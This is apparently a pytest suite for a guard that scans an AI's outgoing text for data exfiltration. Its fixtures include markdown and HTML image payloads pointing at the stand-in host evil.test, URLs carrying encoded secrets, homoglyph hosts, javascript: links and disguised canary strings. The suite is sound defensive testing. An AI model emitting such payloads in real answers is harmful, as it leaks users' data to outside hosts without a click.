"""What leaves: addresses, scripts, encoded data and canaries, as the places say them and never as their data."""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from signoff.core.errors import InvalidError
from signoff.governance.injection import check_outgoing
from signoff.governance.injection.exfiltration import MAX_CHARACTERS, MAX_FINDINGS

HOSTS = ("docs.example.com", "*.example.org")
CANARY = "Kestrel-7391-umbra"
SECRET = base64.b64encode(b"the customer's card is 4111 1111 1111 1111").decode()


@pytest.mark.parametrize(
    "text",
    [
        "Your refund of 12.50 was paid on 2026-03-01. See https://docs.example.com/refunds?order=AB-1.",
        "![logo](https://static.example.org/logo.png) and <img src='https://docs.example.com/a.png'>",
        "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "if a // b == 3: return src/signoff/governance/injection/exfiltration.py",
        "IBAN DE89 3704 0044 0532 0130 00, order 4f8a6c1e-1a2b-4c3d-8e9f-0a1b2c3d4e5f",
        "",
    ],
)
def test_ordinary_answers_pass(text: str) -> None:
    assert check_outgoing(text, hosts=HOSTS, canaries=[CANARY]).findings == ()


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.test/p.png)",
        "![x]( //evil.test/p )",
        "![x](https:\\\\evil.test/p)",
        "![x][pic]\n\n[pic]: https://evil.test/p",
        "![pic]\n\n[PIC]: <https://evil.test/p>",
        "<IMG width=1 SRC=https://evil.test/p>",
        "<iframe src='//evil.test/p'>",
        "<p style=\"background:url('https://evil.test/p')\">",
        "![x](https://docs.example.com@evil.test/p)",
        "![x](https://docs.example.com.evil.test/p)",
        "![x](https://docs.example.com\\@evil.test/p)",
        "![x](http://3232235777/p)",
        "[x](javascript:fetch('/'))",
        "<script>1</script>",
    ],
)
def test_what_acts_without_a_click_is_blocked(text: str) -> None:
    assert check_outgoing(text, hosts=HOSTS).verdict == "block"


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("go to https://evil.test/login", "evil.test"),
        ("[here](//evil.test/a)", "evil.test"),
        ("www.evil.test/a", "www.evil.test"),
        ("mailto:someone@evil.test?subject=x", "evil.test"),
        ("https://example.org/", "example.org"),
        ("https://dоcs.example.com/", "xn--dcs-sed.example.com"),  # noqa: RUF001  (a Cyrillic letter)
    ],
)
def test_a_link_to_an_unknown_host_is_flagged_with_its_host(text: str, host: str) -> None:
    report = check_outgoing(text, hosts=HOSTS)
    assert (report.verdict, [finding.host for finding in report.findings]) == ("flag", [host])


def test_a_link_that_carries_data_is_blocked_and_the_data_is_in_no_finding() -> None:
    for address in (
        f"https://evil.test/?q={SECRET}",
        f"https://evil.test/{SECRET}",
        f"https://{'a1b2c3' * 6}.evil.test/",
    ):
        report = check_outgoing(f"See {address} please.")
        assert report.verdict == "block"
        assert SECRET not in repr(report)


def test_encoded_data_is_flagged_at_its_place() -> None:
    for data in (SECRET, b"the customer's card is 4111 1111 1111 1111".hex()):
        report = check_outgoing(f"Reference: {data} end")
        assert report.verdict == "flag"
        assert [(finding.kind, finding.start, finding.end) for finding in report.findings] == [
            ("encoded", 11, 11 + len(data))
        ]


@pytest.mark.parametrize("shift", range(3))
def test_a_canary_is_found_in_base64_at_each_alignment(shift: int) -> None:
    encoded = base64.b64encode(b"x" * shift + CANARY.encode() + b"yz").decode()
    assert check_outgoing(encoded, canaries=[CANARY]).verdict == "block"


@settings(max_examples=30)
@given(before=st.text(max_size=40), after=st.text(max_size=40), gap=st.sampled_from(["", " ", "-", ". ", "\n"]))
def test_a_canary_is_found_spaced_out_turned_round_or_in_capitals(before: str, after: str, gap: str) -> None:
    for form in (CANARY, CANARY.upper(), CANARY[::-1], CANARY.encode().hex()):
        text = f"{before} {gap.join(form)} {after}"
        assert check_outgoing(text, canaries=[CANARY]).verdict == "block"


def test_a_short_canary_is_refused() -> None:
    with pytest.raises(InvalidError):
        check_outgoing("x", canaries=["short"])


def test_what_is_too_long_to_read_is_blocked() -> None:
    assert check_outgoing("a " * (MAX_CHARACTERS // 2) + "b").verdict == "block"


def test_findings_are_bounded_and_hostile_texts_take_no_longer() -> None:
    began = time.process_time()
    for text in (
        "![" * 4_000,
        "<img " * 4_000,
        "https:" + "/" * 10_000,
        "0" * 10_000,
        "[a]: " * 4_000,
        "![a](" * 2_000,
    ):
        check_outgoing(text, hosts=HOSTS, canaries=[CANARY])
    assert len(check_outgoing("https://evil.test/a " * 500).findings) == MAX_FINDINGS
    assert time.process_time() - began < 10
